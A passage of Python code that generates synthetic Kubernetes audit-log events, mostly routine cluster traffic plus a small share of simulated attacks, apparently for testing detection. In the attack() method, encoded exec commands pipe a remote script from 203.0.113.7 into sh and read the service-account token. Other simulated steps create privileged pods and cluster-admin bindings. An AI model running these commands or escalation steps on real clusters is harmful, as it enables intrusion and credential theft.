            ns = rng.choice(c.namespaces) if res not in ("nodes", "namespaces") and rng.random() < 0.5 else None
            base = "/api/v1" if not grp else f"/apis/{grp}/{ver}"
            uri = f"{base}/namespaces/{ns}/{res}?limit=500&resourceVersion=0" if ns else f"{base}/{res}?limit=500&resourceVersion=0"
            self.emit(self.event("Metadata", "ResponseComplete", uri, "list", who, self.oref(res, ns, None, grp, ver),
                                 self.st200, t - d * 4, t), "list")
        elif r < 0.75:  # gets
            kind = rng.random()
            if kind < 0.35:
                ns, name = rng.choice(c.configmaps)
                who = rng.choice(a["sa"] + a["kubelet"])
                self.emit(self.event("Metadata", "ResponseComplete", f"/api/v1/namespaces/{ns}/configmaps/{name}", "get",
                                     who, self.oref("configmaps", ns, name), self.st200, t - d, t), "get-configmap")
            elif kind < 0.55:
                ns, name = rng.choice(c.secrets)
                who = rng.choice(a["kubelet"])
                self.emit(self.event("Metadata", "ResponseComplete",
                                     f"/api/v1/namespaces/{ns}/secrets/{name}?fieldSelector=metadata.name%3D{name}&limit=500&resourceVersion=0",
                                     "get", who, self.oref("secrets", ns, name), self.st200, t - d, t), "get-secret")
            elif kind < 0.8:
                ns, pod, app = rng.choice(c.pods)
                who = rng.choice(a["kubelet"] + [a["ctrl"]["endpointslice-controller"], a["ctrl"]["disruption-controller"]])
                self.emit(self.event("Metadata", "ResponseComplete", f"/api/v1/namespaces/{ns}/pods/{pod}", "get", who,
                                     self.oref("pods", ns, pod), self.st200, t - d, t), "get-pod")
            else:
                ns = rng.choice(c.namespaces)
                who = rng.choice(a["kubelet"])
                name = rng.choice(["default", "kube-root-ca.crt"])
                res = "serviceaccounts" if name == "default" else "configmaps"
                self.emit(self.event("Metadata", "ResponseComplete", f"/api/v1/namespaces/{ns}/{res}/{name}", "get", who,
                                     self.oref(res, ns, name), self.st200, t - d, t), f"get-{res}")
        elif r < 0.80:  # endpoint(slice) updates by controllers (Request level: core)
            ns, app, _ = rng.choice(c.workloads)
            who = a["ctrl"]["endpoint-controller"]
            ips = [{"ip": f"10.{rng.randrange(100, 120)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                    "nodeName": rng.choice(c.nodes),
                    "targetRef": {"kind": "Pod", "namespace": ns, "name": f"{app}-{c.hash(9)}-{c.hash(5)}", "uid": c.uid()}}
                   for _ in range(rng.randrange(1, 4))]
            body = J({"kind": "Endpoints", "apiVersion": "v1", "metadata": {"name": app, "namespace": ns,
                                                                              "labels": {"app.kubernetes.io/name": app}},
                      "subsets": [{"addresses": ips, "ports": [{"name": "http", "port": 8080, "protocol": "TCP"}]}]})
            self.emit(self.event("Request", "ResponseComplete", f"/api/v1/namespaces/{ns}/endpoints/{app}", "update", who,
                                 self.oref("endpoints", ns, app), self.st200, t - d, t, req=body), "update-endpoints")
        elif r < 0.84:  # kubelet node status patch (Request level, strategic merge patch)
            k = rng.choice(a["kubelet"])
            node = k.user[len('{"username":"system:node:'):].split('"')[0]
            body = self.node_patch[node].replace("@@T@@", self.ts_any(t)[:19] + "Z")
            self.emit(self.event("Request", "ResponseComplete", f"/api/v1/nodes/{node}/status?timeout=10s", "patch", k,
                                 self.oref("nodes", None, node, sub="status"), self.st200, t - d, t, req=body), "patch-node-status")
        elif r < 0.87:  # kubelet pod status patch (Metadata per policy)
            k = rng.choice(a["kubelet"])
            ns, pod, _ = rng.choice(c.pods)
            self.emit(self.event("Metadata", "ResponseComplete", f"/api/v1/namespaces/{ns}/pods/{pod}/status", "patch", k,
                                 self.oref("pods", ns, pod, sub="status"), self.st200, t - d, t), "patch-pod-status")
        elif r < 0.905:  # events (Request level: core)
            ns, pod, app = rng.choice(c.pods)
            who = rng.choice(a["kubelet"] + [a["sched-bind"], a["ctrl"]["replicaset-controller"]])
            reason, msg = rng.choice([("Pulled", f'Container image "{app}:v1.2.3" already present on machine'),
                                      ("Started", f"Started container {app}"), ("Created", f"Created container {app}"),
                                      ("Scheduled", f"Successfully assigned {ns}/{pod} to {rng.choice(c.nodes)}"),
                                      ("Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 503"),
                                      ("BackOff", "Back-off restarting failed container")])
            name = f"{pod}.{'%x' % rng.getrandbits(64)}"
            body = J({"kind": "Event", "apiVersion": "v1",
                      "metadata": {"name": name, "namespace": ns, "creationTimestamp": None},
                      "involvedObject": {"kind": "Pod", "namespace": ns, "name": pod, "uid": c.uid(), "apiVersion": "v1",
                                         "resourceVersion": str(rng.randrange(10**7, 10**8)), "fieldPath": f"spec.containers{{{app}}}"},
                      "reason": reason, "message": msg, "source": {"component": "kubelet", "host": rng.choice(c.nodes)},
                      "firstTimestamp": self.ts_any(t)[:19] + "Z", "lastTimestamp": self.ts_any(t)[:19] + "Z",
                      "count": 1, "type": "Warning" if reason in ("Unhealthy", "BackOff") else "Normal",
                      "eventTime": None, "reportingComponent": "kubelet", "reportingInstance": rng.choice(c.nodes)})
            self.emit(self.event("Request", "ResponseComplete", f"/api/v1/namespaces/{ns}/events", "create", who,
                                 self.oref("events", ns, name), self.st201, t - d, t, req=body), "create-event")
        elif r < 0.925:  # token/subject access reviews (metrics-server, kube-rbac-proxy ...)
            who = rng.choice(a["sa"])
            res = rng.choice(["tokenreviews", "subjectaccessreviews"])
            grp = "authentication.k8s.io" if res == "tokenreviews" else "authorization.k8s.io"
            self.emit(self.event("Metadata", "ResponseComplete", f"/apis/{grp}/v1/{res}", "create", who,
                                 self.oref(res, None, None, grp), self.st201, t - d, t), f"create-{res}")
        elif r < 0.94:  # non-resource URLs
            who = rng.choice(a["sa"][:6] + [a["kcm"]])
            path = rng.choice(["/healthz", "/livez", "/readyz", "/version", "/metrics", "/api", "/apis",
                               "/openapi/v3", "/apis/apps/v1"])
            reason = rbac_reason("ClusterRoleBinding", "system:public-info-viewer", "system:public-info-viewer", "Group",
                                 "system:authenticated") if path != "/metrics" else who.reason
            self.emit(self.event("Metadata", "ResponseComplete", path, "get", who, None, self.st200, t - d, t,
                                 reason=reason), "nonresource-get")
        elif r < 0.965:  # pod creates by controllers (RequestResponse)
            if rng.random() < 0.85:
                ns, app, h, req, resp = rng.choice(self.pod_templates)
                who = a["ctrl"]["replicaset-controller"]
            else:
                ns, app, req, resp = rng.choice(self.ds_templates)
                h = "x"
                who = a["ctrl"]["daemon-set-controller"]
            pod = f"{app}-{c.hash(5)}" if h == "x" else f"{app}-{h}-{c.hash(5)}"
            self.emit(self.event("RequestResponse", "ResponseComplete", f"/api/v1/namespaces/{ns}/pods", "create", who,
                                 self.oref("pods", ns, pod), self.st201, t - d * 3, t, req=req,
                                 resp=resp.replace("@@POD@@", pod),
                                 ann_extra=',"pod-security.kubernetes.io/enforce-policy":"privileged:latest"'),
                      "create-pod")
        elif r < 0.975:  # scheduler binding
            ns, pod, _ = rng.choice(c.pods)
            node = rng.choice(c.nodes)
            body = J({"kind": "Binding", "apiVersion": "v1", "metadata": {"name": pod, "namespace": ns, "uid": c.uid(),
                                                                          "creationTimestamp": None},
                      "target": {"kind": "Node", "name": node}})
            self.emit(self.event("Request", "ResponseComplete", f"/api/v1/namespaces/{ns}/pods/{pod}/binding", "create",
                                 a["sched-bind"], self.oref("pods", ns, pod, sub="binding"), self.st201, t - d, t, req=body),
                      "create-binding")
        elif r < 0.985:  # deployment patch / apply by CD and people (RequestResponse)
            ns, app, dj = rng.choice(self.deploys)
            who = rng.choice([a["argocd-server"], a["helm"]] + a["human"])
            if who.name == "argocd-server" or rng.random() < 0.5:
                patch = J({"spec": {"template": {"metadata": {"annotations": {
                    "kubectl.kubernetes.io/restartedAt": self.ts_any(t)[:19] + "Z"}}}}})
                uri = f"/apis/apps/v1/namespaces/{ns}/deployments/{app}?fieldManager=kubectl-rollout"
                verb, kind = "patch", "patch-deployment"
            else:
                patch = dj
                uri = f"/apis/apps/v1/namespaces/{ns}/deployments/{app}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"
                verb, kind = "update", "update-deployment"
            self.emit(self.event("RequestResponse", "ResponseComplete", uri, verb, who,
                                 self.oref("deployments", ns, app, "apps"), self.st200, t - d * 2, t, req=patch, resp=dj),
                      kind)
        elif r < 0.993:  # configmap updates (RequestResponse), a few large ones
            if rng.random() < 0.06:
                ns, name, cm = rng.choice(self.big_cms)
                kind = "update-configmap-large"
            else:
                ns, name, cm = rng.choice(self.small_cms)
                kind = "update-configmap"
            who = rng.choice([a["helm"], a["argocd-server"], rng.choice(a["sa"])])
            self.emit(self.event("RequestResponse", "ResponseComplete", f"/api/v1/namespaces/{ns}/configmaps/{name}",
                                 "update", who, self.oref("configmaps", ns, name), self.st200, t - d, t, req=cm, resp=cm), kind)
        elif r < 0.9932:  # CRD apply (large)
            crd = rng.choice(self.crds)
            name = crd.split('"name":"', 1)[1].split('"', 1)[0]
            self.emit(self.event("RequestResponse", "ResponseComplete",
                                 f"/apis/apiextensions.k8s.io/v1/customresourcedefinitions/{name}?fieldManager=helm",
                                 "update", a["helm"], self.oref("customresourcedefinitions", None, name, "apiextensions.k8s.io"),
                                 self.st200, t - d * 5, t, req=crd), "update-crd")
        elif r < 0.996:  # secrets written by cert-manager / helm (Metadata per policy)
            ns, name = rng.choice(c.secrets)
            who = rng.choice([a["helm"]] + a["sa"][:3])
            verb = rng.choice(["update", "update", "create", "patch"])
            uri = f"/api/v1/namespaces/{ns}/secrets" + ("" if verb == "create" else f"/{name}")
            self.emit(self.event("Metadata", "ResponseComplete", uri, verb, who, self.oref("secrets", ns, name),
                                 self.st201 if verb == "create" else self.st200, t - d, t), f"{verb}-secret")
        elif r < 0.998:  # jobs by the cronjob controller
            ns = rng.choice(["batch", "data", "analytics"])
            name = f"{rng.choice(['report', 'backup', 'cleanup', 'sync'])}-{rng.randrange(29000000, 29999999)}"
            verb = rng.choice(["create", "delete", "update"])
            who = a["ctrl"]["cronjob-controller"] if verb != "update" else a["ctrl"]["job-controller"]
            self.emit(self.event("Metadata", "ResponseComplete",
                                 f"/apis/batch/v1/namespaces/{ns}/jobs" + ("" if verb == "create" else f"/{name}"), verb, who,
                                 self.oref("jobs", ns, name, "batch"), self.st201 if verb == "create" else self.st200, t - d, t),
                      f"{verb}-job")
        else:  # garbage collection: deletes of pods, replicasets, events
            ns, pod, _ = rng.choice(c.pods)
            res, grp, who = rng.choice([("pods", "", a["ctrl"]["replicaset-controller"]),
                                        ("replicasets", "apps", a["ctrl"]["generic-garbage-collector"]),
                                        ("pods", "", a["ctrl"]["pod-garbage-collector"])])
            base = "/api/v1" if not grp else f"/apis/{grp}/v1"
            self.emit(self.event("Metadata", "ResponseComplete", f"{base}/namespaces/{ns}/{res}/{pod}", "delete", who,
                                 self.oref(res, ns, pod, grp), self.st200, t - d, t), f"delete-{res}")

    # --- attack-like traffic --------------------------------------------
    def attack(self):
        c, a, rng = self.c, self.a, self.rng
        t = self.tick()
        d = rng.uniform(0.001, 0.01)
        ns, pod, app = rng.choice(c.pods)
        human = rng.choice(a["human"])
        # a compromised pod's service account, calling from its pod IP with kubectl
        node = rng.choice(c.nodes)
        sa = Actor("compromised", sa_user(c, ns, app, pod, node), [f"10.{rng.randrange(100, 120)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"],
                   rng.choice(["kubectl/v1.30.2 (linux/amd64) kubernetes/3968350", "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f"]),
                   rbac_reason("RoleBinding", f"{app}-rw", "edit", "ServiceAccount", f"{app}/{ns}"))
        choice = rng.randrange(15)
        if choice == 0:  # exec, shell with a command
            cmd = rng.choice(["command=sh&command=-c&command=curl%20-s%20http%3A%2F%2F203.0.113.7%2Fx.sh%20%7C%20sh",
                              "command=%2Fbin%2Fbash", "command=sh&command=-c&command=cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
                              "command=/bin/sh&command=-c&command=id", "command=bash&command=-i"])
            uri = f"/api/v1/namespaces/{ns}/pods/{pod}/exec?{cmd}&container={app}&stdin=true&stdout=true&tty=true"
            who = rng.choice([human, sa])
            aid = self.audit_id()
            oref = self.oref("pods", ns, pod, sub="exec")
            self.emit(self.event("Metadata", "ResponseStarted", uri, "create", who, oref, self.st101, t - d, t, aid=aid), "attack-exec")
            dur = rng.uniform(2, 90)
            self.later(t + dur, self.event("Metadata", "ResponseComplete", uri, "create", who, oref, self.st101, t, t + dur, aid=aid),
                       "attack-exec")
        elif choice in (1, 2, 3):  # privileged / hostPath / host namespaces pod
            spec_extra, sec, vols, viol = {}, None, [], []
            if choice == 1:
                sec = {"privileged": True, "capabilities": {"add": ["SYS_ADMIN", "NET_ADMIN"]}}
                viol = [f'privileged (container "{app}" must not set securityContext.privileged=true)',
                        f'unrestricted capabilities (container "{app}" must not include "NET_ADMIN", "SYS_ADMIN" in securityContext.capabilities.add)']
            elif choice == 2:
                p = rng.choice(["/", "/etc", "/var/run/docker.sock", "/root"])
                vols = [{"name": "host", "hostPath": {"path": p, "type": ""}}]
                viol = ['hostPath volumes (volume "host")']
            else:
                spec_extra = {"hostPID": True, "hostNetwork": True, "hostIPC": rng.random() < 0.5}
                viol = ["host namespaces (hostNetwork=true, hostPID=true)"]
            name = f"debug-{c.hash(5)}"
            ct = container(c, app, 0, sec)
            if vols:
                ct["volumeMounts"].append({"name": "host", "mountPath": "/host"})
            spec = pod_spec(c, app, [ct], vols, spec_extra)
            body = J({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}, "spec": spec})
            who = rng.choice([human, sa])
            ann = (',"pod-security.kubernetes.io/audit-violations":' + J('would violate PodSecurity "restricted:latest": ' + ", ".join(viol))
                   + ',"pod-security.kubernetes.io/enforce-policy":"privileged:latest"')
            self.emit(self.event("RequestResponse", "ResponseComplete", f"/api/v1/namespaces/{ns}/pods?fieldManager=kubectl-run",
                                 "create", who, self.oref("pods", ns, name), self.st201, t - d, t, req=body, resp=body,
                                 ann_extra=ann), f"attack-pod-{choice}")
        elif choice == 4:  # cluster-admin binding
            name = rng.choice(["tmp-admin", "debug-binding", f"{app}-admin"])
            body = J({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                      "subjects": [{"kind": "ServiceAccount", "name": app, "namespace": ns}],
                      "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}})
            self.emit(self.event("RequestResponse", "ResponseComplete", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create",
                                 "create", rng.choice([human, sa]), self.oref("clusterrolebindings", None, name, "rbac.authorization.k8s.io"),
                                 self.st201, t - d, t, req=body, resp=body), "attack-crb")
        elif choice == 5:  # anonymous allowed
            anon = Actor("anon", user_json("system:anonymous", ["system:unauthenticated"]), ["203.0.113.66"],
                         rng.choice(["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1"]),
                         rbac_reason("ClusterRoleBinding", "anon-view", "view", "User", "system:anonymous"))
            uri, oref = rng.choice([(f"/api/v1/namespaces/{ns}/pods", self.oref("pods", ns)),
                                    ("/api/v1/namespaces/kube-system/configmaps", self.oref("configmaps", "kube-system")),
                                    ("/api/v1/nodes", self.oref("nodes"))])
            self.emit(self.event("Metadata", "ResponseComplete", uri, "list", anon, oref, self.st200, t - d, t), "attack-anon")
        elif choice == 6:  # wildcard ClusterRole
            name = rng.choice(["ops-all", "backup-operator", "tmp-full"])
            body = J({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                      "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]})
            self.emit(self.event("RequestResponse", "ResponseComplete", "/apis/rbac.authorization.k8s.io/v1/clusterroles?fieldManager=kubectl-client-side-apply",
                                 "create", human, self.oref("clusterroles", None, name, "rbac.authorization.k8s.io"),
                                 self.st201, t - d, t, req=body, resp=body), "attack-wildcard-role")
        elif choice == 7:  # cluster-wide list secrets
            self.emit(self.event("Metadata", "ResponseComplete", "/api/v1/secrets?limit=500", "list", sa,
                                 self.oref("secrets"), self.st200, t - d * 5, t), "attack-list-secrets")
        elif choice == 8:  # token request for another service account
            target = rng.choice(["default", "admin", "cluster-autoscaler", "argocd-application-controller"])
            tns = rng.choice(["kube-system", "argocd", ns])
            body = J({"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
                      "spec": {"audiences": None, "expirationSeconds": 3600 * 24 * 365, "boundObjectRef": None}, "status": {"token": "", "expirationTimestamp": None}})
            self.emit(self.event("Request", "ResponseComplete", f"/api/v1/namespaces/{tns}/serviceaccounts/{target}/token",
                                 "create", rng.choice([sa, human]), self.oref("serviceaccounts", tns, target, sub="token"),
                                 self.st201, t - d, t, req=body), "attack-sa-token")
        elif choice == 9:  # burst of 403s: a stolen token probing
            for res, grp in rng.sample([("secrets", ""), ("clusterroles", "rbac.authorization.k8s.io"), ("nodes", ""),
                                        ("pods", ""), ("deployments", "apps"), ("daemonsets", "apps"),
                                        ("clusterrolebindings", "rbac.authorization.k8s.io"), ("namespaces", ""),
                                        ("configmaps", ""), ("serviceaccounts", ""), ("roles", "rbac.authorization.k8s.io"),
                                        ("mutatingwebhookconfigurations", "admissionregistration.k8s.io"),
                                        ("persistentvolumes", ""), ("customresourcedefinitions", "apiextensions.k8s.io")],
                                       rng.randrange(6, 14)):
                for verb in rng.sample(["list", "get", "create", "watch"], rng.randrange(1, 3)):
                    base = "/api/v1" if not grp else f"/apis/{grp}/v1"
                    msg = (f'{res} is forbidden: User "system:serviceaccount:{ns}:{app}" cannot {verb} resource "{res}" in API group '
                           f'"{grp}" at the cluster scope')
                    st = J({"metadata": {}, "status": "Failure", "message": msg, "reason": "Forbidden",
                            "details": {"kind": res}, "code": 403})
                    self.emit(self.event("Metadata", "ResponseComplete", f"{base}/{res}?limit=500", verb, sa,
                                         self.oref(res, None, None, grp), st, t - 0.0005, t, decision="forbid", reason=""),
                              "attack-403")
                    t = self.tick()
        elif choice == 10:  # RBAC enumeration
            body = J({"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": None},
                      "spec": {"namespace": ns}, "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False}})
            self.emit(self.event("Request", "ResponseComplete", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", "create", sa,
                                 self.oref("selfsubjectrulesreviews", None, None, "authorization.k8s.io"), self.st201, t - d, t,
                                 req=body, reason=rbac_reason("ClusterRoleBinding", "system:basic-user", "system:basic-user",
                                                              "Group", "system:authenticated")),
                      "attack-ssrr")
        elif choice == 11:  # kubectl with a service-account token: get pods, then delete a deployment or events
            verb, uri, oref = rng.choice([
                ("get", f"/api/v1/namespaces/{ns}/pods/{pod}", self.oref("pods", ns, pod)),
                ("delete", f"/apis/apps/v1/namespaces/{ns}/deployments/{app}", self.oref("deployments", ns, app, "apps")),
                ("delete", f"/api/v1/namespaces/{ns}/events", self.oref("events", ns)),
                ("patch", f"/apis/apps/v1/namespaces/{ns}/deployments/{app}?fieldManager=kubectl-patch", self.oref("deployments", ns, app, "apps")),
            ])
            self.emit(self.event("Metadata", "ResponseComplete", uri, verb, sa, oref, self.st200, t - d, t), f"attack-sa-kubectl-{verb}")
        elif choice == 12:  # scanner user agent
            scan = Actor("scanner", sa.user, json.loads(sa.ips),
                         rng.choice(["trufflehog/3.82.6", "access_matrix/0.5.0", "azurehound/v2.1.8"]), sa.reason)
            self.emit(self.event("Metadata", "ResponseComplete", f"/api/v1/namespaces/{ns}/configmaps?limit=500", "list", scan,
                                 self.oref("configmaps", ns), self.st200, t - d, t), "attack-scanner")
        elif choice == 13:  # 401: bad token
            anon = Actor("bad", "{}", ["203.0.113.66"], "Go-http-client/2.0", "")
            st = J({"metadata": {}, "status": "Failure", "message": "Unauthorized", "reason": "Unauthorized", "code": 401})
            line = ('{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"' + self.audit_id()
                    + '","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/kube-system/secrets","verb":"list","user":{},'
                    + '"sourceIPs":["203.0.113.66"],"userAgent":"Go-http-client/2.0","responseStatus":' + st
                    + ',"requestReceivedTimestamp":"' + self.ts(t) + '","stageTimestamp":"' + self.ts(t) + '"}')
            self.emit(line, "attack-401")
        else:  # new service account + rolebinding in kube-system
            name = rng.choice(["monitoring-agent", "sys-helper", "node-debugger"])
            body = J({"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": name, "namespace": "kube-system"}})
            self.emit(self.event("Request", "ResponseComplete", "/api/v1/namespaces/kube-system/serviceaccounts", "create", human,
                                 self.oref("serviceaccounts", "kube-system", name), self.st201, t - d, t, req=body),
                      "attack-sa-create")
            t = self.tick()
            body = J({"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
                      "metadata": {"name": name, "namespace": "kube-system"},
                      "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": "kube-system"}],
                      "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"}})
            self.emit(self.event("RequestResponse", "ResponseComplete",
                                 "/apis/rbac.authorization.k8s.io/v1/namespaces/kube-system/rolebindings", "create", human,
                                 self.oref("rolebindings", "kube-system", name, "rbac.authorization.k8s.io"), self.st201,
                                 t - d, t, req=body, resp=body), "attack-rolebinding")

    def run(self, n, attack_share):
        self.target = n
        # attack() writes ~1.9 lines per call on average (403 bursts), so call it less often
        p_attack = attack_share / 1.9
        rnd = self.rng.random
        while self.count < n:
            if rnd() < p_attack:
                self.attack()
            else:
                self.benign()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("out", help="output path (JSON lines), or - for stdout")
    ap.add_argument("--events", type=int, default=1_000_000, help="number of events (lines), default 1,000,000")
    ap.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    ap.add_argument("--attack-share", type=float, default=0.001, help="share of attack-like events (default 0.001)")
    ap.add_argument("--summary", help="also write the summary as JSON to this path")
    args = ap.parse_args()
    t0 = time.time()
    out = sys.stdout if args.out == "-" else open(args.out, "w", encoding="utf-8", newline="\n", buffering=1 << 20)
    g = Gen(args.seed, out)
    g.run(args.events, args.attack_share)
    if out is not sys.stdout:
        out.close()
    else:
        out.flush()
    el = time.time() - t0
    attacks = sum(v for k, v in g.kinds.items() if k.startswith("attack-"))
    summary = {"path": args.out, "events": g.count, "bytes": g.bytes, "avg_bytes": round(g.bytes / max(g.count, 1), 1),
               "largest_bytes": g.largest, "attack_events": attacks, "seed": args.seed, "seconds": round(el, 1),
               "kinds": dict(sorted(g.kinds.items(), key=lambda kv: -kv[1]))}
    if args.summary:
        with open(args.summary, "w") as f:
            json.dump(summary, f, indent=1)
    print(f"{args.out}: {g.count} events, {g.bytes} bytes ({g.bytes / 1e6:.1f} MB), "
          f"average {g.bytes / max(g.count, 1):.0f} B, largest {g.largest} B, {attacks} attack-like, "
          f"seed {args.seed}, {el:.1f} s", file=sys.stderr)


if __name__ == "__main__":
    main()
